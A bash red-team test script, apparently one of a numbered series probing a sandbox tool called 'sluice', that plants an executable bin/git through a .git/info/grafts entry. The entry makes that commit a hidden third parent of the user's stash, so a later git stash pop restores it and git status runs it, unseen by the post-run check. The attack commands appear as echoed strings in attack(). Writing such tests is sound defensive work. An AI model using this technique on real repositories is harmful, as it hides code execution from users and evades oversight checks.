#!/usr/bin/env bash
# red team 48: info/grafts. git still honours .git/info/grafts (deprecated,
# not removed): a line "COMMIT PARENT..." gives a commit other parents. The
# user has a stash entry of their own from before the run. The command
# writes a commit holding only an executable bin/git (git objects only)
# and a graft giving the user's stash entry that commit as its third parent
# (a stash's untracked files). refs/stash, its reflog, HEAD, the branch
# and the index are as they were, so the check after the run does not look
# at the stash. The user's `git stash pop` restores "untracked" bin/git;
# the next `git status` with direnv's PATH_add bin runs it. (git prints
# a deprecation hint for the graft file.)
# usage: 48-grafts-stash.sh /path/to/sluice   (as root or a user)
NAME=grafts-stash
HOLE="the user's git stash pop of their own entry wrote the command's bin/git (a grafted third parent); the next git status ran it"
. "$(dirname "$0")/48-lib.sh"
setup() { new_repo "$1" && echo mine >>"$1/a" && git -C "$1" stash -q; }
attack() {
  plant "$1"
  echo '&& u=$($G commit-tree -m untracked $(printf "040000 tree %s\tbin\n" $bt | $G mktree)) && s=$($G rev-parse refs/stash)'
  echo '&& echo "$s $($G rev-parse $s^1) $($G rev-parse $s^2) $u" >.git/info/grafts'
}
# (its output read whole first: a grep -m1 on the pipe would stop git stash
# pop by SIGPIPE half way)
trigger() {
  local said
  said=$(cd "$1" && git stash pop 2>&1)
  printf '%s\n' "$said" | grep -m1 -i graft | sed 's/^/   git stash pop said: /'
  user_status "$1"
}
finish
